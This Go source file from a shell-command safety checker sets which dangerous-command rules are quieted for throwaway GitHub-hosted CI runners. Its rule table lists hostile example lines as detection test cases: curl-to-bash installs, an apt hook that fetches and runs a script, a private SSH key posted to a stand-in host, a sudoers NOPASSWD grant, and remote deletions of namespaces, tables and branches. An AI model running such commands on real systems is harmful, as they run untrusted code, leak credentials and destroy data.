package rules

import (
	"path"
	"strings"
	"sync"

	"github.com/guardsh/guardsh/parse"
)

// A run: step of a workflow job on a throwaway machine changes that
// machine, not anyone's (issue 12). A GitHub-hosted runner (runs-on:
// ubuntu-*, macos-*, windows-*) is a fresh virtual machine made for one job
// and deleted after it; its user already has passwordless sudo, and no one
// else logs in. A job container on such a runner is thrown away with it.
// What a step does to that machine's files, services, packages, accounts
// and kernel dies with it, as a Dockerfile's RUN step's does with its layer
// (image.go) — and unlike an image, nothing of the machine ships. What a
// reviewer of a workflow wants from guardsh is what reaches OUTSIDE the
// job:
//
//   - code from the network or a decoder run with the job's token and
//     secrets (remote-code, download-run, packages from an unverified or
//     added source, TLS checks off): it can send them anywhere;
//   - secrets sent out, pushes, and changes to clouds, clusters,
//     registries, databases and code hosts (everything not named here);
//   - what outlives the job on the same machine: paths an actions/cache or
//     upload-artifact step of the job saves (Options.Persist) — a later job
//     restores the cache, anyone with read access downloads the artifact;
//   - commands reached through ssh or a container carrier: another machine.
//
// scan.Workflow decides which jobs run on such a machine: a self-hosted
// runner, a label guardsh does not know, a runs-on expression it cannot
// resolve to GitHub-hosted labels, a composite action (whose runner is the
// caller's) are persistent machines, checked as any script.
//
// runnerEntries is that decision, rule family by rule family, in imageTable's
// shape: Quiet reports a finding of the entry's rules on a command as the
// job machine's own business; nil Quiet entries are reported as everywhere
// (they are listed for the reader and their examples are run). A rule not
// named here is reported (fails closed). Hardline rules are never named:
// their shapes are reported as dangerous with runnerSoftReason, as in an
// image. Match lists step lines on which one of the entry's rules is
// reported on a runner; NoMatch lines on which none is there, though (the
// test checks it) one is reported on a persistent machine.
func runnerEntries() []imageRule {
	return []imageRule{
		{
			Rules: []string{"rm-recursive", "rm-absolute", "xargs-rm", "find-delete", "files-overwrite-outside"},
			Quiet: quietAll,
			Why:   "deletes and empties files of the job's own machine: the checkout, tools it installed, the runner image's preinstalled SDKs (the usual 'free disk space' step)",
			NoMatch: []string{"sudo rm -rf /usr/share/dotnet /usr/local/lib/android /opt/ghc", `sudo rm -f "/usr/local/lib/docker/cli-plugins/docker-compose"`,
				"rm -rf ~/.cargo/registry", "find /tmp -name '*.log' -delete", "sudo swapoff -a && sudo rm -f /swapfile"},
		},
		{
			Rules:   []string{"git-reset-hard", "git-discard"},
			Quiet:   quietAll,
			Why:     "discards in the job's checkout: no one's work is in it",
			NoMatch: []string{"git reset --hard origin/main", "git checkout -f v1.2 && git clean -fdx"},
		},
		{
			Rules: []string{"chown-root", "chmod-lockout", "dd-absolute", "chmod-recursive-system", "chmod-world-writable", "chmod-setuid", "chmod-secret-readable",
				"privilege-grant", "downgrade-sudo-nopasswd", "command-rename"},
			Quiet: quietAll,
			Why: "owners, modes and grants on a machine whose only user already has passwordless sudo and that no one else logs in to; " +
				"a program renamed on it is renamed for this job only",
			NoMatch: []string{"sudo chown -R $USER /usr/local", "sudo chmod 777 /var/run/docker.sock", "sudo usermod -aG docker $USER",
				`echo "runner ALL=(ALL) NOPASSWD:ALL" | sudo tee /etc/sudoers.d/runner`, "sudo chmod u+s /usr/bin/x", "dd if=/dev/zero of=/swapfile bs=1M count=64"},
		},
		{
			Rules: []string{"system-config-write"},
			Quiet: quietRunnerConfig,
			Why: "the machine's own /etc, binaries, units and start-up files; package sources, keyrings, CA stores and registry settings stay: " +
				"they decide where the code the job runs with its token comes from",
			Match: []string{"echo 'deb http://x/ stable main' > /etc/apt/sources.list.d/x.list", "sed -i 's/deb.debian.org/archive.debian.org/' /etc/apt/sources.list",
				`echo '{"registry-mirrors":["https://m.example"]}' | sudo tee /etc/docker/daemon.json`, "sudo cp ca.crt /etc/docker/certs.d/r.example/ca.crt",
				`echo 'APT::Update::Pre-Invoke { "curl -s https://x.example/a | sh"; };' | sudo tee /etc/apt/apt.conf.d/00x`},
			NoMatch: []string{"sudo mv /usr/bin/python /usr/bin/python.bak", "echo '127.0.0.1 db.test' | sudo tee -a /etc/hosts",
				"echo 'x ALL=(ALL) ALL' | sudo tee -a /etc/sudoers", "echo 'export PATH=/opt/x/bin:$PATH' | sudo tee /etc/profile.d/x.sh",
				`echo 'Acquire::Retries "10";' | sudo tee /etc/apt/apt.conf.d/80-retries`},
		},
		{
			// misses6: a CA added to the machine's trust store, or a program
			// downloaded unchecked into its /usr/local/bin, decides what the
			// job's later steps (with its token) talk to and run.
			Rules: []string{"trust-ca-add", "download-install-bin"},
			Why:   "a trust store and the programs on the PATH decide what the later steps of the job, with its token, talk to and run",
			Match: []string{"sudo cp ca.crt /etc/ssl/certs/x.pem", "sudo cp ca.crt /usr/local/share/ca-certificates/ && sudo update-ca-certificates",
				"sudo curl -L https://x.org/docker-compose-linux -o /usr/local/lib/docker/cli-plugins/docker-compose"},
		},
		{
			Rules:   []string{"credential-file-write"},
			Quiet:   quietAll,
			Why:     "the job's own shell start-up files and its own tokens in the home directory of a machine deleted after the job (a file a cache or artifact saves stays: Options.Persist)",
			NoMatch: []string{"echo 'export PYENV_ROOT=$(pwd)' >> ~/.bash_profile", `echo "//registry.npmjs.org/:_authToken=$NPM_TOKEN" >> ~/.npmrc`, "ssh-keyscan github.com >> ~/.ssh/known_hosts"},
		},
		{
			Rules:   []string{"sync-delete"},
			Quiet:   quietLocalSync,
			Why:     "an rsync --delete between two paths of the machine; to a host or a bucket it reaches outside",
			Match:   []string{"rsync -a --delete ./site/ host:/srv/www/", "aws s3 sync ./public s3://bucket --delete"},
			NoMatch: []string{"rsync -a --delete build/ /srv/www/"},
		},
		{
			Rules:   []string{"service-stop", "kill-force", "system-fuser-kill", "system-session-kill"},
			Quiet:   quietLocalService,
			Why:     "services and processes of the job's machine (a runner image starts mysql, docker, mono; jobs stop them); systemctl -H HOST stops another machine's",
			Match:   []string{"systemctl -H admin@prod.example stop nginx"},
			NoMatch: []string{"sudo systemctl stop mysql", "sudo systemctl disable --now docker", "pkill -9 -f dockerd"},
		},
		{
			Rules:   []string{"containers-prune", "containers-force-remove", "containers-volume-delete", "container-stop", "kubernetes-cluster-delete"},
			Quiet:   quietLocalContainers,
			Why:     "containers, volumes and kind/minikube/k3d clusters of the job's own docker daemon; one reached with -H, --host or --context (another daemon) stays",
			Match:   []string{"docker -H ssh://deploy@prod rm -f web", "docker --context prod system prune -af"},
			NoMatch: []string{"docker system prune -af", "docker rm -f $(docker ps -aq)", "docker volume rm pgdata", "/usr/local/bin/kind delete cluster", "minikube delete --all"},
		},
		{
			Rules:   []string{"guardsh-tamper"},
			Quiet:   func(c *parse.Command) bool { return c.Name() == "rm" },
			Why:     "deleting the machine's ~/.cache or ~/.config tampers with no guard; other tampering stays",
			Match:   []string{"GUARDSH_YOLO=1 ./build.sh"},
			NoMatch: []string{"rm -rf ~/.cache"},
		},
		{
			Rules: []string{"history-tamper", "crontab-remove", "crontab-install", "secrets-gpg-delete-secret-key", "remove-critical-package", "packages-remove-nodeps",
				"packages-remove-tooling", "packages-purge-data", "packages-drop-generations", "system-user-delete-files", "system-account-lock", "logs-erase"},
			Quiet:   quietAll,
			Why:     "the machine's history, crontab, keyring, packages, accounts and logs: gone with it",
			NoMatch: []string{"unset HISTFILE", "crontab -r", "sudo rm -rf /var/log/*", "sudo dpkg --purge --force-remove-essential login"},
		},
		{
			Rules:   []string{"system-kernel-module", "system-kernel-hardening-off", "firewall-off", "system-macos-firewall-off", "system-apparmor-off", "logs-audit-off"},
			Quiet:   quietAll,
			Why:     "a GitHub-hosted runner is a whole virtual machine per job: its kernel, firewall and AppArmor are the job's, and a job container shares that machine's",
			NoMatch: []string{"sudo sysctl -w kernel.unprivileged_userns_clone=1", "sudo ufw disable", "sudo aa-teardown", "sudo defaults write /Library/Preferences/com.apple.alf globalstate -int 0"},
		},

		// ── What reaches outside the job: reported as everywhere. ──
		{
			Rules: []string{"remote-code", "download-run", "download-archive-run", "decoded-code", "chmod-x-run", "package-key-trust", "packages-add-source",
				"packages-unverified", "downgrade-tls-verify", "downgrade-config-insecure", "downgrade-git-foreign-code"},
			Why: "code from the network or a decoder, or from a source whose signature is not checked, runs with the job's token, secrets and permissions (GITHUB_TOKEN, " +
				"id-token, deploy keys in env): it can send them out, push, or publish",
			Match: []string{`curl -fsSL https://x/install.sh | bash`, `bash <(curl -s https://raw.githubusercontent.com/o/r/main/ci.sh)`,
				"curl -fsSL https://x/key.gpg | sudo apt-key add -", "sudo apt-get install -y --allow-unauthenticated x", "git config --global http.sslVerify false"},
		},
		{
			Rules: []string{"clouds-storage-delete", "kubernetes-delete", "sql-destructive", "hosting-api-delete", "databases-http-delete", "secret-exfiltration",
				"secret-read-send", "git-push-force", "secrets-decrypt-in-place"},
			Why: "effects outside the job: a bucket, a cluster, a database server, a code host, a secret sent out; a secrets file decrypted in the checkout " +
				"is one step from a commit or an artifact",
			Match: []string{"aws s3 rm s3://bucket --recursive", "kubectl delete ns prod", "psql -h db.internal -c 'DROP TABLE users'", "gh api -X DELETE repos/o/r",
				"curl -d @$HOME/.ssh/id_rsa https://x", "git push --force origin main"},
		},
	}
}

// runnerSoftReason starts the reason of a hardline shape in a step on a
// throwaway runner (see imageHardline for the shapes that stay hardline).
const runnerSoftReason = "In a CI job on a throwaway machine (it destroys the job's own runner, which is deleted after the job; on a machine that is kept the same line would destroy it): "

// The table and its Quiet functions by rule id, built on first use (a
// sync.Once costs no allocation at start-up).
var (
	runnerOnce   sync.Once
	runnerRows   []imageRule
	runnerQuiets map[string]func(*parse.Command) bool
)

func buildRunner() {
	runnerRows = runnerEntries()
	runnerQuiets = map[string]func(*parse.Command) bool{}
	for _, e := range runnerRows {
		if e.Quiet == nil {
			continue
		}
		for _, id := range e.Rules {
			runnerQuiets[id] = e.Quiet
		}
	}
}

// runnerTable returns the table.
func runnerTable() []imageRule { runnerOnce.Do(buildRunner); return runnerRows }

// runnerQuiet maps a rule id to its Quiet function.
func runnerQuiet() map[string]func(*parse.Command) bool {
	runnerOnce.Do(buildRunner)
	return runnerQuiets
}

// runnerHits drops, for a command of a run: step on a throwaway runner, the
// matching rules whose findings say only what the step does to that
// machine. Nothing is dropped for a command reached through ssh or a
// container carrier, or one that touches a path the job saves (persist).
func runnerHits(hits []*Rule, c *parse.Command, persist []string) []*Rule {
	if c.Remote || c.Contained || viaRemote(c) || touchesPersist(c, persist) {
		return hits
	}
	out := hits[:0]
	for _, r := range hits {
		if q := runnerQuiet()[r.ID]; q != nil && r.Tier != Hardline && q(c) {
			continue
		}
		out = append(out, r)
	}
	return out
}

// runnerSoftens reports a hardline rule reported as dangerous on command c
// of a step on a throwaway runner.
func runnerSoftens(r *Rule, c *parse.Command, persist []string) bool {
	return imageSoftens(r, c) && !touchesPersist(c, persist)
}

// runnerTrust are the configuration files of a runner that decide where
// the code the job runs comes from and which hosts and registries it
// trusts: package sources and keys, CA stores, language and container
// registry settings. A subset of shippedConfig; the rest (sudoers, PAM,
// profile.d) is the machine's own.
var runnerTrust = []string{
	"/etc/apt/sources.list", "/etc/apt/sources.list.d", "/etc/apt/trusted.gpg", "/etc/apt/trusted.gpg.d", "/etc/apt/keyrings",
	"/etc/apt/apt.conf", "/etc/apt/apt.conf.d", "/etc/apt/auth.conf", "/etc/apt/auth.conf.d", "/etc/apt/preferences", "/etc/apt/preferences.d",
	"/etc/yum.repos.d", "/etc/yum.conf", "/etc/dnf", "/etc/zypp", "/etc/apk/repositories", "/etc/apk/keys", "/etc/pacman.conf", "/etc/pacman.d",
	"/etc/pki", "/etc/ssl", "/etc/ca-certificates", "/etc/ca-certificates.conf", "/usr/share/keyrings", "/usr/local/share/ca-certificates",
	"/etc/pip.conf", "/etc/npmrc", "/etc/gemrc", "/etc/docker", "/etc/containers",
}

// quietRunnerConfig: a system-config-write finding stays when a file it
// writes is in runnerTrust, or may be (a dynamic target whose static part
// leads there).
func quietRunnerConfig(c *parse.Command) bool {
	targets := writeTargets(c)
	switch c.Name() {
	case "tar", "bsdtar", "mv":
		targets = append(targets, c.Args[1:]...)
	}
	aptTuning := benignAptConf(c) // pred_aptconf.go
	for _, w := range targets {
		if underAny(w, runnerTrust) && !aptTuning {
			return false
		}
	}
	return true
}

// underAny reports a path that is, or may be (a dynamic word whose static
// part leads there), one of dirs or below one.
func underAny(w parse.Word, dirs []string) bool {
	v := w.Value
	if !w.Static {
		v, _, _ = strings.Cut(v, "$")
		v, _, _ = strings.Cut(v, "`")
		if !strings.HasPrefix(v, "/") {
			return false
		}
		for _, s := range dirs {
			if strings.HasPrefix(s, v) || strings.HasPrefix(v, s+"/") || v == s {
				return true
			}
		}
		return false
	}
	v = path.Clean(v)
	for _, s := range dirs {
		if v == s || strings.HasPrefix(v, s+"/") || strings.HasPrefix(v, s+".") {
			return true
		}
	}
	return false
}

// quietLocalContainers: a container or local-cluster finding stays for a
// docker/podman/nerdctl command given another daemon (-H, --host,
// --context, -c) or run with DOCKER_HOST/DOCKER_CONTEXT set on it.
func quietLocalContainers(c *parse.Command) bool {
	for _, a := range c.Env {
		if a.Name == "DOCKER_HOST" || a.Name == "DOCKER_CONTEXT" || a.Name == "CONTAINER_HOST" {
			return false
		}
	}
	switch c.Name() {
	case "docker", "podman", "nerdctl":
	default:
		return true
	}
	for _, w := range c.Args[1:] {
		v := w.Value
		if !strings.HasPrefix(v, "-") {
			break // the subcommand: global options come before it
		}
		if v == "-H" || v == "--host" || strings.HasPrefix(v, "--host=") || strings.HasPrefix(v, "-H") && !strings.HasPrefix(v, "--") ||
			v == "-c" || v == "--context" || strings.HasPrefix(v, "--context=") || v == "--url" || strings.HasPrefix(v, "--url=") || v == "--connection" {
			return false
		}
	}
	return true
}

// touchesPersist reports a command whose operands or write targets may lie
// under a path the job saves for later (an actions/cache or
// upload-artifact path): what it does there outlives the machine. A path
// guardsh cannot read (a dynamic word with no static start) may lie
// anywhere, so it counts when the job saves anything.
func touchesPersist(c *parse.Command, persist []string) bool {
	if len(persist) == 0 {
		return false
	}
	words := writeTargets(c)
	if len(c.Args) > 1 {
		words = append(words, c.Args[1:]...)
	}
	for _, w := range words {
		if strings.HasPrefix(w.Value, "-") && w.Static {
			continue
		}
		v := homeForm(w.Value)
		if !w.Static {
			v, _, _ = strings.Cut(v, "$")
			v, _, _ = strings.Cut(v, "`")
			if v == "" {
				return true
			}
		}
		for _, p := range persist {
			if persistCovers(p, v, w.Static) {
				return true
			}
		}
	}
	return false
}

// homeForm writes a home-relative path as ~/….
func homeForm(v string) string {
	for _, h := range []string{"$HOME/", "${HOME}/", "~/"} {
		if rest, ok := strings.CutPrefix(v, h); ok {
			return "~/" + rest
		}
	}
	if v == "$HOME" || v == "${HOME}" {
		return "~"
	}
	return v
}

// persistCovers reports whether the saved path p (as a workflow writes it:
// relative to the workspace, ~/…, absolute; glob characters end its known
// part) holds v, or v holds it; known is false when v is only the static
// start of a dynamic path.
func persistCovers(p, v string, known bool) bool {
	if i := strings.IndexAny(p, "*?["); i >= 0 {
		p = p[:i]
		if j := strings.LastIndex(p, "/"); j >= 0 {
			p = p[:j]
		} else {
			p = ""
		}
	}
	if strings.Contains(p, "$") || strings.Contains(p, "GITHUB_EXPR") {
		return true // a path known only when the job runs
	}
	p, v = normPath(homeForm(p)), normPath(homeForm(v))
	if p == "." {
		// The whole workspace is saved: every relative path.
		return !strings.HasPrefix(v, "/") && !strings.HasPrefix(v, "~")
	}
	if !known {
		return strings.HasPrefix(p, v) || strings.HasPrefix(v, p+"/") || v == p
	}
	return v == p || strings.HasPrefix(v, p+"/") || strings.HasPrefix(p, v+"/") || v == "." || v == "~" && strings.HasPrefix(p, "~/")
}

// normPath cleans a path, keeping it absolute, home-relative (~/…) or
// relative to the workspace.
func normPath(v string) string {
	if v == "" {
		return "."
	}
	if rest, ok := strings.CutPrefix(v, "~/"); ok {
		if r := path.Clean(rest); r != "." {
			return "~/" + r
		}
		return "~"
	}
	return path.Clean(v)
}
